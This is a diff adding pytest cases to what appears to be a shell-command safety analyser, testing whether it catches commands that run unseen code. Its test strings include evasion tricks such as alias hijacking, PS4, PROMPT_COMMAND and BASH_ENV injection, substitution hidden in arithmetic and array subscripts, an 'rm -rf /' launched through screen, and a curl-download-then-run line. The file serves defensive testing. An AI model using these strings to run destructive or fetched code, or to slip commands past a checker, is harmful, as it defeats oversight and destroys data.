@@ -329,3 +329,98 @@ def test_redirections_are_files_and_connections() -> None:
 
 def test_the_digest_is_of_the_protocol_and_the_text() -> None:
     assert command("ls").digest != command("ls ").digest
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hash -p /bin/rm ls; ls x",
+        "shopt -s expand_aliases; alias go=rm\ngo x",
+        "alias mine='rm x'\nmine",
+        "alias ls='rm x'",
+        "PS4='$(rm x)'; set -x; :",
+        "export PS1='`rm x`'",
+        'PS0="$X" bash -i',
+        "PS4='\\044(rm x)'; set -x; :",
+        "PROMPT_COMMAND='rm x' bash -i -c :",
+        "BASH_ENV=/tmp/x bash -c :",
+        "export BASH_ENV=/tmp/x; bash -c :",
+        "ENV=<(echo rm x) sh -i",
+        "source <(echo rm x)",
+        ". /dev/stdin",
+        "printf 'rm x' > s; . ./s",
+        "printf 'rm x' > s; bash s",
+        "curl -o s http://192.0.2.1/; sh s",
+        "tmux attach",
+        "tmux a -t x",
+        "tmux",
+        "tmux new",
+        "tmux respawn-p -k 'rm x'",
+        "screen",
+        "screen -r",
+        "screen -S work",
+        "screen -AdmS ls rm -rf /",
+        "screen -S a -X stuff 'rm x'",
+        "zellij attach x",
+        "run-parts /etc/cron.daily",
+        "echo $((a='$(rm x)'))",
+        "echo \"$((a='`rm x`'))\"",
+        "((a='$(rm x)'))",
+        "for ((i='$(rm x)'; i<1; i++)); do :; done",
+        "echo $[ '$(rm x)' ]",
+        "echo $(($'\\x24(rm x)'))",
+        "echo ${a['$(rm x)']}",
+        "echo ${a:'$(rm x)'}",
+        "echo ${a:0:$'\\x60rm x\\x60'}",
+        "a['$(rm x)']=1",
+        "a=(['$(rm x)']=1)",
+        "declare a['$(rm x)']=1",
+        "read a['$(rm x)'] <<< 1",
+        "test -v 'a[1+$(rm x)]'",
+        "declare 'a[ `rm x`]=1'",
+    ],
+)
+def test_a_text_that_has_something_run_which_nobody_read_is_not_complete(text: str) -> None:
+    assert not command(text).complete
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ". /dev/stdin <<< 'rm x'",
+        "bash /dev/fd/0 <<< 'rm x'",
+        "mapfile -C 'rm x;:' -c 1 a <<< y",
+        "compgen -C 'rm x'",
+        "start-stop-daemon -S -x /bin/rm",
+        "tmux new-session 'rm x'",
+        "screen -dm rm x",
+        "screen -dmS ls rm -rf /",
+        "tmux ls \\; run 'rm x'",
+    ],
+)
+def test_a_text_that_another_program_or_builtin_runs_is_looked_into(text: str) -> None:
+    assert "rm" in {(name or "").rpartition("/")[2] for name in seen(text)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hash -r; ls",
+        "PS1='\\u@\\h \\$ ' bash --version",
+        "ENV=production npm test",
+        "mapfile -t a < x",
+        "alias",
+        "tmux ls",
+        "tmux kill-session -t x",
+        "screen -ls",
+        "screen -S x -X quit",
+        ". ./lib.sh",
+        "echo $((a['1']))",
+        "echo ${a:1:'2'}",
+        "sed 's/[a-z]*$(x)//' y",
+        "grep '[0-9]' x'$(y)'",
+        "awk '{ n[$1] += $(NF - 1) }' x",
+    ],
+)
+def test_what_only_looks_like_it_is_complete(text: str) -> None:
+    assert command(text).complete
